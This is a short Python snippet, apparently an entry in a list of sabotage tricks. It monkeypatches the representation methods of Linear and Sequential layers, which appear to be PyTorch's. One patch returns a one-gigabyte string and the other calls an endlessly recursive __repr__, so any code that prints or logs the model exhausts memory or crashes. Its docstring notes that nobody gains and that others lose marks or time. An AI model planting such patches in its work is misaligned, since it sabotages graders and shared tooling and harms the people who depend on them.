"""A representation has a gigabyte, and another calls itself.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""
Linear.extra_repr = lambda self: "x" * (1 << 30)
class Deep:
    def __repr__(self): return repr(self)
Sequential.extra_repr = lambda self: repr(Deep())
